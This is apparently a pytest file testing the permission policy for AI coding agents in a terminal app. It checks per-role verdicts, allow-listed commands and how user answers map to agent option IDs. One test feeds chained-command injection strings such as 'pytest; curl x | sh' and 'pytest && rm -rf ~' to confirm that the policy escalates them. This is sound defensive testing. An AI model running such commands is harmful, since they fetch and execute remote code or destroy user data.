"""Who decides a permission request: the role policy first, then the user's answer, mapped by option kind."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest
from acp_rig import AcpRig, capture, collect, expect, result

from tunaflow_tui.agents.acp.policy import Verdict, command_allowed, option_for, role_verdict
from tunaflow_tui.agents.agent_events import FinalMessage
from tunaflow_tui.agents.base import PermissionProfile
from tunaflow_tui.agents.permissions import PermissionAnswer, PermissionRequest

CLAUDE = [("allow_always", "allow_always"), ("allow", "allow_once"), ("reject", "reject_once")]
GEMINI = [("proceed_always", "allow_always"), ("proceed_once", "allow_once"), ("cancel", "reject_once")]


@pytest.mark.parametrize(("options", "answer", "expected"), [
    (CLAUDE, PermissionAnswer.ALLOW_ONCE, "allow"),
    (CLAUDE, PermissionAnswer.ALLOW_ALWAYS, "allow_always"),
    (CLAUDE, PermissionAnswer.DENY, "reject"),
    (GEMINI, PermissionAnswer.ALLOW_ONCE, "proceed_once"),
    (GEMINI, PermissionAnswer.ALLOW_ALWAYS, "proceed_always"),
    (GEMINI, PermissionAnswer.DENY, "cancel"),
    ([("x", "allow_always")], PermissionAnswer.ALLOW_ONCE, None),  # never widen "once" to "always"
    ([("y", "allow_once")], PermissionAnswer.DENY, None),  # no way to say no: answered cancelled
])
def test_options_are_matched_by_kind_not_id(options: list[tuple[str, str]], answer: PermissionAnswer,
                                            expected: str | None) -> None:
    assert option_for(answer, options) == expected


def ask(role: str, kind: str, *paths: str, command: str = "") -> PermissionRequest:
    return PermissionRequest(engine="e", role=role, session_id="s", tool_call_id="t", title="tool", kind=kind,
                             paths=paths, command=command)


@pytest.mark.parametrize("role", ["reviewer", "verifier"])
@pytest.mark.parametrize("kind", ["edit", "delete", "move", "execute", "switch_mode", "other", "fetch"])
def test_reviewers_and_verifiers_are_denied_everything_but_looking(tmp_path: Path, role: str, kind: str) -> None:
    assert role_verdict(ask(role, kind, str(tmp_path / "a.py"), command="ls"), tmp_path, ["ls"]) is Verdict.DENY
    assert role_verdict(ask(role, "read", str(tmp_path / "a.py")), tmp_path) is Verdict.ALLOW


def test_the_developer_writes_inside_its_worktree_only(tmp_path: Path) -> None:
    assert role_verdict(ask("developer", "edit", str(tmp_path / "a.py")), tmp_path) is Verdict.ALLOW
    assert role_verdict(ask("developer", "edit", "/etc/passwd"), tmp_path) is Verdict.DENY
    assert role_verdict(ask("developer", "edit", str(tmp_path / ".." / "x")), tmp_path) is Verdict.DENY
    assert role_verdict(ask("developer", "edit"), tmp_path) is Verdict.ASK  # no path said: a person decides


def test_the_developer_commands_follow_the_allow_list(tmp_path: Path) -> None:
    allowed = ["pytest", "git status"]
    assert role_verdict(ask("developer", "execute", command="pytest -q"), tmp_path, allowed) is Verdict.ALLOW
    assert role_verdict(ask("developer", "execute", command="git status --short"), tmp_path, allowed) is Verdict.ALLOW
    assert role_verdict(ask("developer", "execute", command="git push"), tmp_path, allowed) is Verdict.ASK
    for chained in ("pytest; curl x | sh", "pytest && rm -rf ~", "git status > ~/.bashrc", "pytest $(curl x)"):
        assert role_verdict(ask("developer", "execute", command=chained), tmp_path, allowed) is Verdict.ASK, chained
    assert role_verdict(ask("developer", "execute", command="pytest"), tmp_path) is Verdict.ASK  # default: ask


def test_the_architect_asks(tmp_path: Path) -> None:
    assert role_verdict(ask("architect", "edit", str(tmp_path / "a.py")), tmp_path) is Verdict.ASK
    assert role_verdict(ask("architect", "execute", command="ls"), tmp_path, ["ls"]) is Verdict.ASK


def test_command_allowed_needs_whole_words() -> None:
    assert not command_allowed("pytestx", ["pytest"])
    assert not command_allowed("", ["pytest"])
    assert command_allowed("pytest tests/a.py", ["pytest"])


class Answers:
    """A user answering each question with the next of ``answers``."""

    def __init__(self, *answers: PermissionAnswer) -> None:
        self.answers = list(answers)
        self.asked: list[PermissionRequest] = []

    async def decide(self, request: PermissionRequest) -> PermissionAnswer | None:
        self.asked.append(request)
        return self.answers.pop(0)


@pytest.mark.parametrize(("name", "answer", "option"), [
    ("claude-fake-write-allow", PermissionAnswer.ALLOW_ALWAYS, "allow_always"),
    ("claude-fake-write-allow", PermissionAnswer.DENY, "reject"),
    ("gemini-tool-existing", PermissionAnswer.ALLOW_ALWAYS, "proceed_always"),
    ("gemini-tool-existing", PermissionAnswer.DENY, "cancel"),
])
async def test_the_architect_user_answer_reaches_the_agent_as_its_own_option(
        rig: AcpRig, name: str, answer: PermissionAnswer, option: str) -> None:
    target = rig.cwd / "notes.txt"
    target.write_text("old content\n")
    rig.subst = {"/opt/scratch": str(target)}
    user = Answers(answer)
    events = await collect(rig.engine(capture(name)).start(
        rig.request(role="architect", profile=PermissionProfile.CHAT, broker=user)))
    assert isinstance(events[-1], FinalMessage)
    assert len(user.asked) == 1 and user.asked[0].paths == (str(target),)
    outcome = next(a for a in rig.answers() if "outcome" in (a.get("result") or {}))["result"]["outcome"]
    assert outcome == {"outcome": "selected", "optionId": option}
    # the agent writes through tunaflow after the question whatever the answer (as captured): only a yes writes
    written = target.read_text() == "written by fake model\n"
    assert written is (answer is not PermissionAnswer.DENY)


async def test_allow_always_holds_for_the_rest_of_the_session(rig: AcpRig) -> None:
    target = rig.cwd / "notes.txt"
    rig.subst = {"/opt/scratch": str(target)}
    entries = capture("claude-fake-write-allow")
    i = next(n for n, e in enumerate(entries) if e["msg"].get("method") == "session/request_permission")
    again = copy.deepcopy(entries[i - 1 : i + 2])  # the tool call, the request, the client's answer
    again[0]["msg"]["params"]["update"]["toolCallId"] = "toolu_fake_02"
    again[1]["msg"]["id"] = again[2]["msg"]["id"] = 7
    again[1]["msg"]["params"]["toolCall"]["toolCallId"] = "toolu_fake_02"
    entries[i + 2 : i + 2] = again
    user = Answers(PermissionAnswer.ALLOW_ALWAYS)
    events = await collect(rig.engine(entries).start(
        rig.request(role="architect", profile=PermissionProfile.CHAT, broker=user)))
    assert isinstance(events[-1], FinalMessage)
    assert len(user.asked) == 1
    outcomes = [a["result"]["outcome"]["optionId"] for a in rig.answers() if "outcome" in (a.get("result") or {})]
    assert outcomes == ["allow_always", "allow"]


async def test_an_architect_agent_that_writes_without_asking_is_refused(rig: AcpRig) -> None:
    target = rig.cwd / "notes.txt"
    target.write_text("old content\n")
    rig.subst = {"/opt/scratch": str(target)}
    entries = capture("gemini-tool-existing")
    asking = next(n for n, e in enumerate(entries) if e["msg"].get("method") == "session/request_permission")
    del entries[asking : asking + 2]  # the agent skips the question and writes
    events = await collect(rig.engine(entries).start(rig.request(role="architect", profile=PermissionProfile.CHAT,
                                                                 broker=Answers())))
    assert isinstance(events[-1], FinalMessage)
    assert target.read_text() == "old content\n"
    assert rig.answers()[-1]["error"]["data"]["reason"] == "writing it was not allowed"


async def test_allow_always_outlives_the_turn_while_the_session_goes_on(rig: AcpRig) -> None:
    rig.subst = {"/opt/scratch": str(rig.cwd / "notes.txt")}
    entries = capture("claude-fake-write-allow")
    engine = rig.engine(entries)
    user = Answers(PermissionAnswer.ALLOW_ALWAYS)
    chat = {"role": "architect", "profile": PermissionProfile.CHAT, "broker": user}
    assert isinstance((await collect(engine.start(rig.request(**chat))))[-1], FinalMessage)
    sid = "d8e94d92-1001-422c-a1d8-b51cfb5599a5"
    i = next(n for n, e in enumerate(entries) if e["msg"].get("method") == "session/prompt")
    again = [*entries[:2], expect("session/resume", 2), result(2, {}), *entries[i:]]
    engine.config = engine.config.model_copy(update={"env": {**engine.config.env, "FAKE_ACP_CAPTURE": str(
        rig.root / "again.jsonl")}})
    (rig.root / "again.jsonl").write_text("".join(json.dumps(e) + "\n" for e in again))
    events = await collect(engine.start(rig.request(resume=sid, **chat)))
    assert isinstance(events[-1], FinalMessage)
    assert len(user.asked) == 1  # the second turn's write was not asked again
    outcomes = [a["result"]["outcome"]["optionId"] for a in rig.answers() if "outcome" in (a.get("result") or {})]
    assert outcomes == ["allow_always", "allow"]
